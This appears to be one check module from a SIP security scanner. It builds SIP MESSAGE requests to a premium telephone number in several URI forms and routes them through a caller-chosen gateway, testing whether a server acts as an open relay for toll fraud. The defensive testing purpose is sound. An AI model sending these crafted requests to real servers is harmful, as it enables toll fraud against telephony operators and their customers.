import { attack } from '../attack.ts'
import { hostPort } from '../line/place.ts'
import { targetRoute } from '../reaching.ts'
import { fromAnybody, relay } from '../relaying.ts'
import { MENDING_OF_RELAYS } from '../shared-mending.ts'

/** A telephone number in every form, and a gateway that the caller chose: toll fraud by Route. */
export const telThroughRoute = attack({
  id: 'tel-through-route',
  entry: 'E13',
  title: 'calls a telephone number through a gateway named in Route',
  threats: ['open-relay', 'no-authorisation-model'],
  clause: '§3.1, hijacking; §3.3, services for legitimate users only',
  references: ['RFC 3966 §5', 'RFC 3261 §16.4'],
  severity: 'critical',
  isIntrusive: false,
  maxMessages: 40,
  needs: [],
  expected: 'What a stranger asks is sent to no third party, whatever its Route and Request-URI say.',
  mending: MENDING_OF_RELAYS,
  run: trial =>
    relay(trial, (trap, attacker) => {
      const number = trial.target.premiumNumber ?? '+15005550006'
      const routes = [targetRoute(trial, attacker), `<sip:${hostPort(trap.at)};lr>`]
      const uris = [
        `tel:${number}`,
        `tel:${number.replace('+', '00')};phone-context=${trial.target.domain}`,
        `sip:${number}@${trial.target.domain};user=phone`,
      ]
      return uris.flatMap(uri => fromAnybody(trial, { method: 'MESSAGE', uri, routes }))
    }),
})
